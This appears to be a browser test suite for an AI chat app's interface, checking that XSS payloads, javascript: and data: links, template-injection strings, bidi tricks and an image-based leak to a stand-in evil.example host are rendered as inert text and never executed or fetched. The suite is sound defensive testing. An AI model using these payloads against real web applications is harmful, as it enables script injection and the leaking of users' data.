/** Words from a model, a file or a person are only words: nothing in them runs, and nothing is fetched because of them. */
import { answer, fail, toolUse } from '@hearth/stand-in';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { answered, cards, newChat, openChat, openSteps, say } from './support/chat.ts';
import { still } from './support/observe.ts';
import { seedMessages, seedTool } from './support/seed.ts';
import { browserMissing, startWorld, type Visit, type World } from './support/world.ts';

const attacks = [
  '<script>window.broken = true</script>',
  '<img src=x onerror="window.broken = true">',
  '<svg onload="window.broken = true"><a xlink:href="javascript:window.broken=true">x</a></svg>',
  '"><iframe srcdoc="<script>parent.broken = true</script>"></iframe>',
  '<style>@import url(https://evil.example/a.css);body{background:url(https://evil.example/b.png)}</style>',
  '<link rel=prefetch href=https://evil.example/c><meta http-equiv=refresh content="0;url=https://evil.example/">',
  '{{constructor.constructor("window.broken = true")()}}',
  // Turns the reading direction around, and hides: a name that looks like another one.
  '\u202Egpj.exe\u202C\u200B\u2066',
];
const all = attacks.join(' ');

const markdown = [
  ...attacks,
  '[click](javascript:window.broken=true)',
  '[click](JaVaScRiPt:window.broken=true)',
  '[click](data:text/html,<script>window.broken=true</script>)',
  '[click](vbscript:window.broken=true)',
  '[click](java&#x0a;script:window.broken=true)',
  '[click](//evil.example/path)',
  '[ref]: javascript:window.broken=true',
  '[ref] and <javascript:window.broken=true> and <https://evil.example/auto>',
  '![picture](https://evil.example/p.png)',
  '![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '![](/api/v1/auth/logout)',
  '| <img src=x onerror="window.broken=true"> | [x](javascript:window.broken=true) |\n| --- | --- |\n| `<script>` | <b onclick="window.broken=true">b</b> |',
  '```html\n<script>window.broken = true</script>\n```',
  `${'>'.repeat(400)} deep`,
  `${'['.repeat(2_000)}x${']'.repeat(2_000)}`,
  `${'**'.repeat(3_000)}`,
].join('\n\n');

/** What may never be there, however it came. */
const faultsOf = async ({ page, strangers, faults }: Visit): Promise<unknown> => ({
  broken: await page.evaluate(() => 'broken' in window),
  elements: await page.evaluate(() =>
    [...document.querySelectorAll('body *')]
      .filter(
        (element) =>
          (element.matches('iframe, object, embed, base, meta, link[rel=prefetch], style') &&
            !element.closest('head')) ||
          [...element.attributes].some(
            ({ name, value }) => name.startsWith('on') || /^\s*(javascript|vbscript|data:text)/i.test(value),
          ),
      )
      .map((element) => element.outerHTML.slice(0, 150)),
  ),
  strangers,
  faults,
});
const nothing = { broken: false, elements: [], strangers: [], faults: [] };

/** Every link of an answer leads where it says, in a tab that knows nothing of this one. */
const linkFaults = (page: Page): Promise<string[]> =>
  page.evaluate(() =>
    [...document.querySelectorAll<HTMLAnchorElement>('[data-transcript] .md a')].flatMap((link) =>
      /^(https?|mailto):/.test(link.href) && link.rel.includes('noopener') && link.target === '_blank'
        ? []
        : [link.outerHTML.slice(0, 150)],
    ),
  );

describe.skipIf(browserMissing)('hostile words', () => {
  let world: World;
  beforeAll(async () => {
    world = await startWorld();
  });
  afterAll(() => world.close());

  it('15 hostile markdown is text while it streams and afterwards', async () => {
    const visit = await world.visit();
    const { page } = visit;
    world.model.script([answer(markdown, { tokensPerSecond: 3_000 })]);
    await newChat(page, 'Attack me');
    await answered(page);
    await page.locator('[data-answer]').waitFor();
    expect(await page.locator('[data-answer]').innerText()).toContain('<script>window.broken = true</script>');
    expect(await linkFaults(page)).toEqual([]);
    for (const link of await page.getByRole('link', { name: 'click' }).all()) {
      expect(await link.getAttribute('href')).toMatch(/^https?:/);
    }
    expect(await faultsOf(visit)).toEqual(nothing);
    await page.reload();
    await page.locator('[data-answer]').waitFor();
    expect(await faultsOf(visit)).toEqual(nothing);
    expect((await world.harness.fetch('/api/v1/auth/me')).status).toBe(200);
  });

  it('15 hostile titles, names of tools, inputs, outputs and thoughts', async () => {
    const visit = await world.visit();
    const { page } = visit;
    const session = await seedMessages(
      world,
      [
        { type: 'user', content: all },
        { type: 'assistant', content: [{ type: 'thinking', thinking: all }] },
        ...seedTool('toolu_name', `mcp__${all}__${all}`, { value: all }, all),
        ...seedTool('toolu_proto', '__proto__', { constructor: all }, all),
        ...seedTool('toolu_bash', 'Bash', { command: all, description: all }, all, true),
        ...seedTool('toolu_fetch', 'WebFetch', { url: 'javascript:window.broken=true' }, all),
        { type: 'assistant', content: all },
      ],
      all,
    );
    await page.goto('/');
    await page.locator(`main a[href="/c/${session}"]`).waitFor();
    expect(await page.locator(`main a[href="/c/${session}"]`).textContent()).toContain('<script>');
    await page
      .getByRole('button', { name: /^More for/ })
      .first()
      .tap();
    await page.getByRole('dialog').waitFor();
    expect(await faultsOf(visit)).toEqual(nothing);
    await openChat(page, session);
    expect(await page.locator('h1').textContent()).toContain('<script>');
    await openSteps(page);
    await page.getByLabel('Answered').first().waitFor();
    await page.getByRole('button', { name: 'About this chat' }).tap();
    await page.getByRole('dialog').waitFor();
    expect(await faultsOf(visit)).toEqual(nothing);
  });

  it('26 hostile titles and inputs of a question; what is shown is exactly what would run', async () => {
    const visit = await world.visit();
    const { page } = visit;
    const command = `echo '${all}'`;
    world.model.script([
      toolUse('Bash', { command, description: all }),
      toolUse('AskUserQuestion', {
        questions: [
          {
            question: all,
            header: 'x',
            multiSelect: false,
            options: [
              { label: `${all} one`, description: all },
              { label: 'two', description: all },
            ],
          },
        ],
      }),
      'Survived.',
    ]);
    await newChat(page, 'Ask me something nasty');
    await cards(page).waitFor();
    expect(await cards(page).getByLabel('Exactly this').textContent()).toBe(command);
    expect(await faultsOf(visit)).toEqual(nothing);
    await page.goto('/');
    await page.getByRole('region', { name: 'Needs you' }).getByRole('link').tap();
    await page.waitForURL(/\/approve\//);
    await cards(page).waitFor();
    expect(await cards(page).getByLabel('Exactly this').textContent()).toBe(command);
    await still(cards(page));
    await cards(page).getByRole('button', { name: 'Deny' }).tap();
    await page.getByText(/^Denied by /).waitFor();
    await page.getByRole('link', { name: 'Open the chat it belongs to' }).tap();
    await cards(page).waitFor();
    expect(await cards(page).getByRole('heading').textContent()).toContain('<script>');
    const option = cards(page).getByRole('button', { name: /one/ }).first();
    await option.scrollIntoViewIfNeeded();
    await still(cards(page));
    await option.tap();
    await page.getByText('Survived.').waitFor();
    expect(await faultsOf(visit)).toEqual(nothing);
  });

  it('24 hostile words of an error, and of a toast', async () => {
    const visit = await world.visit();
    const { page } = visit;
    world.model.script([fail.badRequest({ message: all, repeat: true })]);
    await newChat(page, 'Fail badly');
    await page.getByText('The answer broke off').waitFor();
    await answered(page);
    await page.route('**/api/v1/sessions/*/**', (route) =>
      route.request().method() === 'POST'
        ? route.fulfill({ status: 422, json: { error: { code: 'VALIDATION_ERROR', message: all } } })
        : route.fallback(),
    );
    await say(page, 'Refuse me');
    await page.getByText('Not sent').waitFor();
    expect(await page.locator('[data-outbox=refused]').textContent()).toContain('<script>');
    expect(await faultsOf(visit)).toEqual(nothing);
  });

  it('15 a picture of another site is a link to tap, never a request', async () => {
    const visit = await world.visit();
    const { page } = visit;
    world.model.script(['Look: ![the plan](https://evil.example/leak.png?secret=1) here.']);
    await newChat(page, 'Show me a picture');
    await answered(page);
    await page.locator('[data-answer]').waitFor();
    expect(await page.locator('[data-transcript] img').count()).toBe(0);
    expect(await page.locator('[data-answer]').innerText()).toContain('the plan');
    expect(await faultsOf(visit)).toEqual(nothing);
  });

  it('15 the server forbids what the page would not do anyway', async () => {
    const { page } = await world.visit();
    const response = await page.goto('/');
    const policy = response?.headers()['content-security-policy'] ?? '';
    expect(policy).toMatch(/default-src '(self|none)'/);
    expect(policy).not.toMatch(/script-src[^;]*'unsafe-(inline|eval)'/);
    expect(policy).toMatch(/frame-ancestors '(none|self)'/);
    const outcome = await page.evaluate(async () => {
      const attempts = [
        () =>
          document.body.append(
            Object.assign(document.createElement('script'), { textContent: 'window.broken = true' }),
          ),
        () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.broken = true">'),
        () => document.body.setAttribute('onclick', 'window.broken = true'),
      ];
      for (const attempt of attempts) {
        try {
          attempt();
        } catch {
          // Refused before it is even there.
        }
      }
      document.body.click();
      const fetched = await fetch('https://evil.example/').then(
        () => 'fetched',
        () => 'refused',
      );
      return { ran: 'broken' in window, fetched };
    });
    expect(outcome).toEqual({ ran: false, fetched: 'refused' });
  });
});
